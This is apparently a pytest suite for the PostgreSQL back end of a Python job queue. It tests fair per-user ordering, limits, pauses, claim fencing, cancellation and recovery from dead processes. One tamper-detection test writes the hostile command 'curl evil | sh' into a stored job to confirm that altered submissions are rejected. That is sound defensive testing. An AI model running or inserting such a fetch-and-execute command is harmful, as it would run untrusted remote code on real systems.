"""The rows of waiting and running jobs: their order, its limits, and what who has lost a job is refused."""

from __future__ import annotations

import random
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from datetime import timedelta
from typing import Any

import pytest

pytest.importorskip("psycopg", reason="psycopg is missing: pip install 'aiohttp-jobs[postgres]'")

import psycopg

from aiohttp_jobs.engine.base import JobQuery, Limits, MostWaiting, StopReason, cancelled_by
from aiohttp_jobs.engine.postgres.database import DatabaseUnavailableError
from aiohttp_jobs.engine.postgres.jobs import Claim, JobTable, StaleClaimError
from aiohttp_jobs.engine.postgres.output_chunks import OutputChunks
from aiohttp_jobs.engine.postgres.queue_order import QueueOrder, UsersLine
from aiohttp_jobs.errors import TooManyPendingError
from aiohttp_jobs.model.job import (
    ExecutionMode,
    InterpreterName,
    JobPhase,
    JobResult,
    JobStatus,
    new_job_id,
    utc_now,
)
from aiohttp_jobs.model.output import OutputPart, Span

from ...contract.jobs import MOST, submission
from ...gate import PATIENCE_SECONDS
from ...postgres import PostgresServer
from .support import installation

B, M, R = ExecutionMode.BACKGROUND_JOB, ExecutionMode.MAIN_LOOP, ExecutionMode.RUNSPACE
STALL = 30.0  # nobody is to be taken for dead because the machine is busy
OFFERS = [f"interpreter {name}" for name in InterpreterName]


_FILL = """
INSERT INTO aiohttp_jobs.jobs
    (job_id, state, user_id, job_name, slot, priority, size, attempt, queued_at, submission)
SELECT md5(n::text)::uuid, 'queued', CASE n %% 9 WHEN 0 THEN 'user' || n %% 90 ELSE 'alice' END, job_name,
    slot, priority, size, attempt, clock_timestamp(), '{}'
FROM generate_series(%(start)s + 1, %(end)s) n, aiohttp_jobs.jobs WHERE job_id = %(like)s
"""
_REFUSE = """
CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
    RAISE EXCEPTION 'could not extend file' USING ERRCODE = 'disk_full';
END $$;
CREATE TRIGGER full_disk BEFORE INSERT ON aiohttp_jobs.jobs EXECUTE FUNCTION refuse();
"""


class Process:
    """A process that claims jobs, and never runs them."""

    def __init__(self, dsn: str, stack: ExitStack) -> None:
        self.installation = installation(dsn, stall_seconds=STALL)
        self.installation.open()
        self._is_open = True
        stack.callback(self.die)
        presence = self.installation.presence
        self.table = JobTable(
            self.installation.database, presence.process_id, self.installation.signer("submission"), STALL,
            OFFERS,
        )  # fmt: skip

    def submit(self, *, only_here: bool = False, **fields: Any) -> str:
        job = submission(**fields)
        self.table.submit(job, MOST, only_here=only_here)
        return job.job_id

    def claim(self, most: int = 1, *, starvation: float = 600.0, **limits: Any) -> list[str]:
        return [claim.job_id for claim in self.claims(most, starvation=starvation, **limits)]

    def claims(
        self, most: int = 1, *, slot: str = B, starvation: float = 600.0, **limits: Any
    ) -> list[Claim]:
        return self.table.ask(
            self.table.to_claim({slot: most}, Limits({}, **limits), starvation, uuid.uuid4())
        ).claims

    def die(self) -> None:
        if self._is_open:
            self._is_open = False
            self.installation.close()


@pytest.fixture
def start(postgres: str) -> Iterator[Callable[[], Process]]:
    with ExitStack() as stack:
        yield lambda: Process(postgres, stack)


@pytest.fixture
def process(start: Callable[[], Process]) -> Process:
    return start()


def result_of(claim: Claim, status: JobStatus = JobStatus.FAILED) -> JobResult:
    assert claim.submission is not None
    fields = {
        name: getattr(claim.submission, name)
        for name in ("job_id", "user_id", "session_id", "job_name", "command", "execution_mode", "attempt")
    }
    return JobResult(
        **fields, description="", date_started=utc_now(), date_completed=utc_now(), runtime=0.0,
        output="", success=False, status=status,
    )  # fmt: skip


def retried(process: Process, claim: Claim) -> None:
    """Have a job wait for its next attempt."""
    assert claim.submission is not None
    following = claim.submission.model_copy(update={"attempt": 2, "run_at": utc_now()})
    process.table.again(claim, result_of(claim), following)


# --- order


def test_users_take_turns_and_each_is_served_first_in_first_out(process: Process) -> None:
    alice = [process.submit() for _ in range(3)]
    bob = [process.submit(user_id="bob") for _ in range(2)]
    assert process.claim(9) == [alice[0], bob[0], alice[1], bob[1], alice[2]]


def test_turns_are_kept_from_one_claim_to_the_next_and_between_processes(
    process: Process, start: Callable[[], Process]
) -> None:
    alice = [process.submit() for _ in range(3)]
    bob = process.submit(user_id="bob")
    assert process.claim() == [alice[0]]
    assert start().claim() == [bob]
    assert process.claim() == [alice[1]]


def test_higher_priority_goes_first(process: Process) -> None:
    low, high = process.submit(priority=1), process.submit(priority=8, user_id="bob")
    middle = process.submit()
    assert process.claim(9) == [high, middle, low]


def test_whoever_has_waited_too_long_goes_before_all_others(process: Process) -> None:
    old = process.submit(priority=0)
    time.sleep(0.05)
    process.submit(priority=9)
    assert process.claim(starvation=0.04) == [old]


def test_what_is_found_comes_in_the_order_in_which_it_is_claimed(process: Process) -> None:
    for number in range(4):
        process.submit(priority=number % 2)
        process.submit(user_id="bob", priority=number % 2)
    process.submit(user_id="carol")
    process.claim(2)
    query = JobQuery(frozenset({JobPhase.QUEUED}), 100)
    found = process.table.find(query)
    assert [state.position for state in found] == list(range(1, 8))
    assert process.claim(9) == [state.job.job_id for state in found]


def test_places_and_first_ones_are_counted_as_if_each_job_were_looked_at() -> None:
    chance = random.Random(7)
    for _ in range(50):
        lines = [
            UsersLine(priority, user, chance.randint(1, 5), chance.randint(0, 3), chance.randint(1, 10**6))
            for priority in chance.sample(range(10), 3)
            for user in chance.sample("abcdef", chance.randint(1, 6))
        ]
        jobs = sorted(
            (-line.priority, nth, line.turn, line.head, line.user_id)
            for line in lines
            for nth in range(1, line.number + 1)
        )
        order = QueueOrder.of(lines)
        places = [order.position(-priority, user, nth) for priority, nth, _, _, user in jobs]
        assert places == list(range(1, len(jobs) + 1))
        for limit in (0, 1, 4, len(jobs), len(jobs) + 1):
            first = Counter({(line.priority, line.user_id): most for line, most in order.first(limit)})
            assert first == Counter((-priority, user) for priority, _, _, _, user in jobs[:limit])
        assert order.position(11, "a", 1) is None
        assert order.position(lines[0].priority, lines[0].user_id, 6) is None


def test_jobs_are_found_by_the_beginning_of_an_id_and_by_whose_they_are(process: Process) -> None:
    hers, his = process.submit(), process.submit(user_id="bob")
    (running,) = process.claim()
    assert running == hers
    everything = frozenset(JobPhase)

    def found(**wanted: Any) -> list[str]:
        return [state.job.job_id for state in process.table.find(JobQuery(everything, 9, **wanted))]

    assert found(id_prefix=hers[:11]) == [hers]
    assert found(id_prefix=his[:8]) == [his]
    assert found(user_id="bob") == [his]
    assert found(id_prefix=his[:8], user_id="alice") == found(id_prefix="nothing%") == []


def test_no_question_about_waiting_jobs_reads_them_all(
    postgres: str, postgres_server: PostgresServer, start: Callable[[], Process]
) -> None:
    if not postgres_server.has_library("auto_explain"):
        pytest.skip("this PostgreSQL has no auto_explain")
    postgres_server.set_for(
        postgres,
        session_preload_libraries="auto_explain",
        auto_explain__log_min_duration="0",
        auto_explain__log_nested_statements="on",
    )
    process = start()
    job_id = process.submit(user_id="bob")
    there = 1
    for count, is_analysed in ((1000, False), (1000, True), (50_000, False), (50_000, True)):
        with psycopg.connect(postgres, autocommit=True) as connection:
            connection.execute(_FILL, {"start": there, "end": count, "like": job_id})
            there = count
            if is_analysed:
                connection.execute("VACUUM ANALYZE aiohttp_jobs.jobs")
        before = len(postgres_server.log())
        process.claims(2, per_user=5, overall=1000)
        for user_id in ("bob", None):
            process.table.find(JobQuery(frozenset(JobPhase), 20, user_id))
        assert process.table.get(job_id)
        process.table.summary()
        process.table.ask(process.table.to_take_lost())
        process.table.ask(process.table.to_see_held())
        process.submit(user_id=f"{count} {is_analysed}")
        said = postgres_server.log()[before:]
        assert "Index" in said
        assert "Seq Scan on jobs" not in said, said[said.index("Seq Scan on jobs") - 3000 :][:4000]


def test_a_limit_holds_where_only_the_first_of_many_waiting_jobs_are_counted(process: Process) -> None:
    usual = MostWaiting(80, 10_000)

    def accept(count: int = 1, most: MostWaiting = usual) -> None:
        for _ in range(count):
            process.table.submit(submission(), most, only_here=False)

    def is_full(most: MostWaiting = usual) -> bool:
        try:
            accept(most=most)
        except TooManyPendingError:
            return True
        return False

    accept(5)
    running = process.claims(5)
    accept(75)
    # What waits for another attempt counts, and was not accepted since.
    for claim in running:
        retried(process, claim)
    assert is_full()
    process.claims(10)
    accept(10)
    assert is_full()
    # Fewer than are counted each time, and then many again.
    process.claims(70)
    accept(70)
    assert is_full()
    process.claims(2)
    size = len(submission().command)
    assert is_full(MostWaiting(1000, 79 * size - 1))
    assert not is_full(MostWaiting(1000, 79 * size))


def test_a_submission_looks_at_few_of_the_jobs_that_wait(postgres: str) -> None:
    most, count = MostWaiting(100_000, 1 << 30), 3000
    with ExitStack() as stack:
        process = Process(postgres, stack)
        job_id = process.submit()
        with psycopg.connect(postgres, autocommit=True) as connection:
            connection.execute(_FILL, {"start": 1, "end": count, "like": job_id})
        for _ in range(30):
            process.table.submit(submission(), most, only_here=False)
    # Its sessions have told what they did when they ended.
    query = "SELECT idx_tup_read FROM pg_stat_user_indexes WHERE indexrelname = 'jobs_waiting_of_user'"
    deadline, read = time.monotonic() + PATIENCE_SECONDS, 0
    with psycopg.connect(postgres, autocommit=True) as connection:
        while read < 30 * 64 and time.monotonic() < deadline:
            read = connection.execute(query).fetchall()[0][0]
            time.sleep(0.05)
    assert 30 * 64 <= read < 30 * 64 + 2 * count


def test_it_is_forgotten_whose_turn_was_long_ago(
    process: Process, postgres: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("aiohttp_jobs.engine.postgres.jobs._KEPT_TURNS", 2)
    for user in "abcd":
        process.submit(user_id=user)
    process.claim(4)
    process.table.forget_old_turns()
    with psycopg.connect(postgres) as connection:
        left = connection.execute("SELECT user_id FROM aiohttp_jobs.user_turns ORDER BY turn").fetchall()
    assert left == [("c",), ("d",)]


def test_a_database_without_room_says_so_and_takes_nothing(process: Process, postgres: str) -> None:
    with psycopg.connect(postgres, autocommit=True) as connection:
        connection.execute(_REFUSE)
    with pytest.raises(DatabaseUnavailableError, match="has no room") as refused:
        process.submit()
    assert (refused.value.status, refused.value.code) == (507, "insufficient_storage")
    assert not refused.value.may_be_done
    assert process.claim() == []


def test_a_job_that_is_not_due_waits_and_holds_up_nobody(process: Process, postgres: str) -> None:
    soon = process.submit(run_at=utc_now() + timedelta(hours=1), concurrency_key="db", priority=9)
    now = process.submit(concurrency_key="db")
    (first,), due, *_ = process.table.ask(process.table.to_claim({B: 9}, Limits({}), 600.0, uuid.uuid4()))
    assert due is not None
    assert 3000 < due < 3601
    assert first.job_id == now
    process.table.end_unreadable(first)
    assert process.claim(9) == []
    with psycopg.connect(postgres, autocommit=True) as connection:
        connection.execute("UPDATE aiohttp_jobs.jobs SET run_at = clock_timestamp()")
    assert process.claim(9) == [soon]


# --- limits


def test_no_more_are_claimed_than_there_are_places(process: Process) -> None:
    for _ in range(3):
        process.submit()
        process.submit(execution_mode=R)
    assert len(process.claims(2)) == 2
    assert len(process.claims(0)) == 0
    claimed = process.table.ask(process.table.to_claim({B: 9, R: 1}, Limits({}), 600.0, uuid.uuid4())).claims
    assert sorted(claim.submission.execution_mode for claim in claimed if claim.submission) == [B, R]


def test_a_users_and_everybodys_limits_hold_over_all_processes(
    process: Process, start: Callable[[], Process]
) -> None:
    for user in ("alice", "bob"):
        for _ in range(3):
            process.submit(user_id=user)
    other = start()
    assert len(process.claims(9, per_user=1)) == 2
    assert other.claims(9, per_user=1) == []
    assert len(other.claims(9, overall=3)) == 1
    assert process.claims(9, overall=3) == []


def test_two_jobs_with_one_key_never_run_at_once(process: Process, start: Callable[[], Process]) -> None:
    first, second = process.submit(concurrency_key="db"), process.submit(concurrency_key="db")
    bobs = process.submit(concurrency_key="db", user_id="bob")
    shared = [process.submit(concurrency_key="shared:db", user_id=user) for user in ("alice", "bob")]
    claims = process.claims(9)
    assert {claim.job_id for claim in claims} == {first, bobs, shared[0]}
    assert start().claims(9) == []
    process.table.end_unreadable(claims[0])
    assert process.claim(9) == [second]


def test_what_waits_for_something_does_not_hold_up_its_users_others(process: Process) -> None:
    first = process.submit(concurrency_key="db")
    for _ in range(5):
        process.submit(concurrency_key="db")
    last = process.submit()
    assert process.claim(9) == [first, last]


def test_a_job_of_one_host_is_run_by_no_other_while_that_lives(
    process: Process, start: Callable[[], Process]
) -> None:
    other = start()
    job_id = other.submit(only_here=True, execution_mode=M)
    assert process.claims(9, slot=M) == []
    other.die()
    assert [claim.job_id for claim in process.claims(9, slot=M)] == [job_id]


def test_a_pause_holds_for_all(process: Process, start: Callable[[], Process]) -> None:
    other = start()
    process.table.set_paused(True)
    job_id = other.submit()
    assert other.claim(9) == []
    other.table.set_paused(False)
    assert process.claim(9) == [job_id]


def test_a_pause_has_its_answer_when_claims_that_began_before_it_are_done(
    process: Process, postgres: str
) -> None:
    process.submit()
    with psycopg.connect(postgres) as claiming, ThreadPoolExecutor(2) as threads:
        claiming.execute("SELECT pg_advisory_xact_lock(7305, 1)")
        claim = threads.submit(process.claim)
        paused = threads.submit(process.table.set_paused, True)
        time.sleep(0.2)
        assert not paused.done()
        claiming.rollback()
        paused.result(60)
        claim.result(60)
    process.submit()
    assert process.claim() == []


def test_of_many_that_claim_at_once_each_job_goes_to_one(
    process: Process, start: Callable[[], Process]
) -> None:
    jobs = {process.submit(user_id=f"user {number % 3}") for number in range(40)}
    rivals = [process, start(), start()]
    with ThreadPoolExecutor(6) as threads:
        claimed = list(threads.map(lambda number: rivals[number % 3].claim(2), range(30)))
    taken = [job_id for each in claimed for job_id in each]
    assert len(taken) == len(set(taken)) == 40
    assert set(taken) == jobs


def test_nobody_waits_for_ever_in_a_line_that_was_found_empty(
    process: Process, start: Callable[[], Process], postgres: str
) -> None:
    rivals = [process, start()]
    with ThreadPoolExecutor(6) as threads:
        submitted = threads.map(lambda n: rivals[n % 2].submit(user_id=f"user {n % 3}"), range(60))
        claimed = threads.map(lambda n: rivals[n % 2].claim(2), range(60))
        taken = [job_id for each in claimed for job_id in each]
    while found := process.claim(9):
        taken += found
    assert sorted(taken) == sorted(submitted)
    # Who comes later is served all the same, and lines in which nobody is go when a claim comes upon them.
    other, job_id = process.submit(user_id="other"), process.submit(user_id="user 1")
    assert process.claim(9) == [other, job_id]
    with psycopg.connect(postgres) as connection:
        assert connection.execute("SELECT user_id FROM aiohttp_jobs.lines").fetchall() == []


def test_lines_of_jobs_that_were_claimed_alone_do_not_pile_up(process: Process, postgres: str) -> None:
    for number in range(18):
        job_id = process.submit(user_id=f"user {number}")
        assert process.claim(2) == [job_id]
    with psycopg.connect(postgres) as connection:
        left = connection.execute("SELECT user_id FROM aiohttp_jobs.lines ORDER BY turn").fetchall()
    # The seventeenth was one too many, and all went with it.
    assert left == [("user 17",)]


# --- lost answers


def test_submitting_the_same_again_changes_nothing(process: Process) -> None:
    job = submission()
    for _ in range(3):
        process.table.submit(job, MOST, only_here=False)
    (claim,) = process.claims(9)
    process.table.submit(job, MOST, only_here=False)
    assert process.claims(9) == []
    process.table.end_unreadable(claim)
    process.table.submit(job, MOST, only_here=False)
    assert process.claims(9) == []
    assert process.table.get(job.job_id) is None


def test_what_a_claim_got_whose_answer_was_lost_can_be_asked_for(process: Process) -> None:
    job_id, claim_id = process.submit(), uuid.uuid4()
    first = process.table.ask(process.table.to_claim({B: 1}, Limits({}), 600.0, claim_id)).claims
    assert process.table.claimed_before(claim_id) == first
    assert [claim.job_id for claim in first] == [job_id]
    assert process.table.claimed_before(uuid.uuid4()) == []


def test_an_attempt_that_was_kept_already_is_not_kept_twice(process: Process) -> None:
    process.submit(retry={"count": 2})
    (claim,) = process.claims()
    assert claim.submission is not None
    following = claim.submission.model_copy(update={"attempt": 2, "run_at": utc_now()})
    for _ in range(2):
        process.table.again(claim, result_of(claim), following)
    (again,) = process.claims(9)
    assert again.submission is not None
    assert (again.submission.attempt, again.fence) == (2, claim.fence + 1)
    assert [record["Attempt"] for record in process.table.attempts(claim.job_id)] == [1]


# --- who has a job no longer


def test_what_a_dead_process_had_is_taken_once_and_refused_to_it(
    process: Process, start: Callable[[], Process]
) -> None:
    dead, third = start(), start()
    dead.submit(retry={"count": 1, "on": ["Interrupted"]})
    (claim,) = dead.claims()
    assert process.table.ask(process.table.to_take_lost()) == []
    dead.installation.presence.close()
    (lost,) = process.table.ask(process.table.to_take_lost())
    assert (lost.claim.job_id, lost.claim.fence) == (claim.job_id, claim.fence + 1)
    assert lost.process_id == dead.installation.presence.process_id
    assert third.table.ask(third.table.to_take_lost()) == []
    assert claim.submission is not None
    following = claim.submission.model_copy(update={"attempt": 2, "run_at": utc_now()})
    with pytest.raises(StaleClaimError):
        dead.table.again(claim, result_of(claim), following)
    dead.table.end_unreadable(claim)
    assert process.table.get(claim.job_id) is not None
    process.table.again(lost.claim, result_of(claim), following)
    (again,) = process.claims()
    assert again.fence == claim.fence + 2
    with pytest.raises(StaleClaimError):
        process.table.again(lost.claim, result_of(claim).model_copy(update={"attempt": 2}), following)


def test_a_job_that_waits_is_cancelled_by_one_and_claimed_by_nobody(
    process: Process, start: Callable[[], Process]
) -> None:
    job_id, reason = process.submit(concurrency_key="db"), cancelled_by("bob")
    claim = start().table.claim_to_cancel(job_id, reason)
    assert claim is not None
    assert claim.lock is None
    assert process.table.claim_to_cancel(job_id, reason) is None
    assert process.claims(9) == []


def test_who_runs_a_job_learns_who_wants_it_stopped(process: Process, start: Callable[[], Process]) -> None:
    job_id, other = process.submit(), start()
    (claim,) = process.claims()
    assert other.table.claim_to_cancel(job_id, cancelled_by("bob")) is None
    other.table.ask_to_cancel(job_id, cancelled_by("bob"))
    other.table.ask_to_cancel(job_id, StopReason(JobStatus.CANCELLED, "again", by="eve"))
    (held,) = process.table.ask(process.table.to_see_held())
    assert (held.job_id, held.reason) == (job_id, cancelled_by("bob"))
    assert other.table.ask(other.table.to_see_held()) == []
    state = other.table.get(job_id)
    assert state is not None
    assert state.is_cancelling
    other.table.ask_to_cancel(new_job_id(), cancelled_by("bob"))
    other.table.ask_to_cancel("nonsense", cancelled_by("bob"))
    process.table.end_unreadable(claim)


# --- somebody who can write to the database


@pytest.mark.parametrize(
    "change",
    ["jsonb_set(submission::jsonb, '{Command}', '\"curl evil | sh\"')", "'{}'", "'[]'", "'null'"],
)
def test_a_job_that_was_changed_in_the_database_is_not_believed(
    process: Process, postgres: str, change: str
) -> None:
    process.submit()
    with psycopg.connect(postgres, autocommit=True) as attacker:
        attacker.execute(f"UPDATE aiohttp_jobs.jobs SET submission = ({change})::json")  # type: ignore[arg-type]
    (claim,) = process.claims()
    assert claim.problem is not None or claim.submission is None


def test_output_that_was_put_once_already_without_an_answer_is_put_again_with_what_follows(
    process: Process,
) -> None:
    process.submit()
    (claim,) = process.claims()
    chunks = OutputChunks(process.installation.database, process.installation.presence.process_id, 1 << 20)
    chunks.put(claim, 1, OutputPart(0, b"one "))
    chunks.put(claim, 1, OutputPart(0, b"one two"))
    chunks.put(claim, 1, OutputPart(0, b"one "))
    assert chunks.read(claim.job_id, 1, 0, 100, whole=True).data == b"one two"


def test_what_was_copied_of_an_output_is_there_until_there_is_the_result_of_the_attempt(
    process: Process,
) -> None:
    job_id = process.submit()
    (claim,) = process.claims()
    chunks = OutputChunks(process.installation.database, process.installation.presence.process_id, 1 << 20)
    chunks.put(claim, 1, OutputPart(0, b"one"))
    following = submission(job_id=job_id).model_copy(update={"attempt": 2, "run_at": utc_now()})
    process.table.again(claim, result_of(claim), following)
    assert chunks.spans(job_id, 1) == []
    (claim,) = process.claims()
    chunks.put(claim, 2, OutputPart(0, b"two"))
    assert chunks.spans(job_id, 2) == [Span(0, 3)]


def test_who_stops_in_a_transaction_does_not_hold_its_jobs_for_long(process: Process) -> None:
    database = process.installation.database
    assert database.row("SHOW idle_in_transaction_session_timeout") == ("10s",)
